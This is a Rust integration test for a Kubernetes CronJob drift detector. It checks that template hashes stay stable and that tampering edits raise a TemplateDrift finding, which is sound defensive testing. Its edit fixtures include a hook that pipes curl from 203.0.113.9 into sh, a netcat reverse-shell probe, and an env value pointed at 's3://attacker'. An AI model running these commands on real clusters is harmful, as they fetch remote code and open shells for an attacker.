//! The template hash (SPEC 3.5) against a real API server: a rich manifest
//! and the object served for it hash alike, offline and from the cluster;
//! a baseline pinning it approves the served object; and each
//! security-relevant edit of the live CronJob (env value, hook, probe,
//! init-container order, placement) makes TemplateDrift fire until it is
//! reverted.

use super::NS_TEMPLATE_HASH;
use crate::harness::{Cluster, root};
use crate::support::{Ctl, ensure};
use cronwarden::api::Rule;

const NAME: &str = "rich-report";
const POD: &str = "/spec/jobTemplate/spec/template/spec";

/// `templateHash` of the one entry `cronwarden baseline snapshot
/// --pin-template` writes for `args`, and the snapshot itself.
fn snapshot(c: &Cluster, args: &[&str]) -> Result<(String, String), String> {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cronwarden"))
        .args(["baseline", "snapshot", "--pin-template", "--name", "pinned"])
        .args(args)
        .env("KUBECONFIG", &c.admin_kubeconfig)
        .output()
        .map_err(|e| e.to_string())?;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    ensure(
        out.status.success(),
        format!(
            "snapshot {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        ),
    )?;
    let hashes: Vec<&str> = text
        .lines()
        .filter_map(|l| l.trim().strip_prefix("templateHash: "))
        .collect();
    match hashes.as_slice() {
        [h] => Ok((h.trim_matches('"').to_owned(), text.clone())),
        _ => Err(format!("snapshot {args:?} pins {hashes:?}:\n{text}")),
    }
}

/// The rich fixture without its hostPath volume, so no heuristic fires and
/// the only finding is the one the scenario provokes.
fn manifest(ns: &str) -> Result<String, String> {
    let text = std::fs::read_to_string(root().join("tests/fixtures/cronjob-rich-manifest.yaml"))
        .map_err(|e| e.to_string())?;
    let host_path = "          - name: host-logs\n            hostPath:\n              path: /var/log/reports\n";
    ensure(text.contains(host_path), "fixture has its hostPath volume")?;
    Ok(text
        .replace(host_path, "")
        .replace("namespace: reports", &format!("namespace: {ns}")))
}

/// (what, JSON patch, JSON patch reverting it), paths under the pod spec.
fn edits() -> Vec<(&'static str, String, String)> {
    let op = |o: &str, path: &str, value: &str| {
        if value.is_empty() {
            format!(r#"{{"op":"{o}","path":"{POD}{path}"}}"#)
        } else {
            format!(r#"{{"op":"{o}","path":"{POD}{path}","value":{value}}}"#)
        }
    };
    let patch = |ops: &[String]| format!("[{}]", ops.join(","));
    let replace = |what, path: &str, new: &str, old: &str| {
        (
            what,
            patch(&[op("replace", path, new)]),
            patch(&[op("replace", path, old)]),
        )
    };
    let mv = |from: &str, to: &str| {
        format!(r#"{{"op":"move","from":"{POD}{from}","path":"{POD}{to}"}}"#)
    };
    vec![
        replace(
            "env value",
            "/containers/0/env/1/value",
            r#""s3://attacker""#,
            r#""s3://reports""#,
        ),
        replace(
            "postStart exec hook",
            "/containers/0/lifecycle/postStart/exec/command/2",
            r#""curl -fsSL http://203.0.113.9/x | sh""#,
            r#""echo started > /out/started""#,
        ),
        replace(
            "probe exec command",
            "/containers/1/livenessProbe/exec/command",
            r#"["/bin/sh","-c","nc 203.0.113.9 4444 -e /bin/sh"]"#,
            r#"["/bin/healthy"]"#,
        ),
        replace(
            "probe timing",
            "/containers/0/livenessProbe/periodSeconds",
            "1",
            "10",
        ),
        (
            "initContainer order",
            patch(&[mv("/initContainers/1", "/initContainers/0")]),
            patch(&[mv("/initContainers/1", "/initContainers/0")]),
        ),
        (
            "nodeName",
            patch(&[op("add", "/nodeName", r#""control-plane-1""#)]),
            patch(&[op("remove", "/nodeName", "")]),
        ),
        replace(
            "nodeSelector",
            "/nodeSelector/kubernetes.io~1os",
            r#""windows""#,
            r#""linux""#,
        ),
        (
            "tolerations",
            patch(&[op("add", "/tolerations/-", r#"{"operator":"Exists"}"#)]),
            patch(&[op("remove", "/tolerations/2", "")]),
        ),
    ]
}

pub(super) async fn manifest_and_served_hash_alike_and_drift_fires(
    c: &Cluster,
    ctl: &Ctl,
) -> Result<(), String> {
    let ns = NS_TEMPLATE_HASH;
    c.namespace(ns)?;
    let path = c.dir.path().join("template-hash-manifest.yaml");
    std::fs::write(&path, manifest(ns)?).unwrap();
    // The manifest's pin first, so the CronJob is never unapproved.
    let (offline, offline_baseline) = snapshot(c, &[path.to_str().unwrap()])?;
    c.apply(&offline_baseline)?;
    c.kubectl(&["apply", "-f", path.to_str().unwrap()])?;
    // (a) The served object, offline and read from the cluster, hashes as
    // the manifest does.
    let served = c.kubectl(&["get", "cronjob", NAME, "-n", ns, "-o", "yaml"])?;
    ensure(
        served.contains("scheme: HTTP") && served.contains("defaultMode: 420"),
        "the API server defaulted the template",
    )?;
    let served_path = c.dir.path().join("template-hash-served.yaml");
    std::fs::write(&served_path, &served).unwrap();
    let (from_file, _) = snapshot(c, &[served_path.to_str().unwrap()])?;
    let (pinned, baseline) = snapshot(c, &["--from-cluster", "-n", ns])?;
    ensure(
        offline == from_file && from_file == pinned,
        format!("manifest {offline}, served file {from_file}, from cluster {pinned}"),
    )?;
    // (b) Pinned from the cluster (the same pin): the served object is
    // approved.
    c.apply(&baseline)?;
    ctl.settle(3).await?;
    if let Some(f) = c.finding(ns, NAME).await {
        return Err(format!(
            "pinned served object has a finding: {:?}",
            f.status.map(|s| s.rules)
        ));
    }
    // (c) Each security-relevant edit fires TemplateDrift; reverting clears it.
    for (what, forward, revert) in edits() {
        c.kubectl(&[
            "patch",
            "cronjob",
            NAME,
            "-n",
            ns,
            "--type=json",
            "-p",
            &forward,
        ])
        .map_err(|e| format!("{what}: {e}"))?;
        let f = c
            .open_finding(ns, NAME, &["TemplateDrift"])
            .await
            .map_err(|e| format!("{what}: {e}"))?;
        let s = f.status.unwrap_or_default();
        let v = s
            .violations
            .iter()
            .find(|v| v.rule == Rule::TemplateDrift)
            .ok_or(format!("{what}: no TemplateDrift violation"))?;
        ensure(
            v.expected.as_deref() == Some(pinned.as_str())
                && v.actual.as_deref().is_some_and(|a| a != pinned)
                && v.message.contains("templateHash pinned by"),
            format!("{what}: violation {v:?}"),
        )?;
        c.kubectl(&[
            "patch",
            "cronjob",
            NAME,
            "-n",
            ns,
            "--type=json",
            "-p",
            &revert,
        ])
        .map_err(|e| format!("{what} (revert): {e}"))?;
        c.resolved_finding(ns, NAME, "Resolved")
            .await
            .map_err(|e| format!("{what} reverted: {e}"))?;
    }
    Ok(())
}
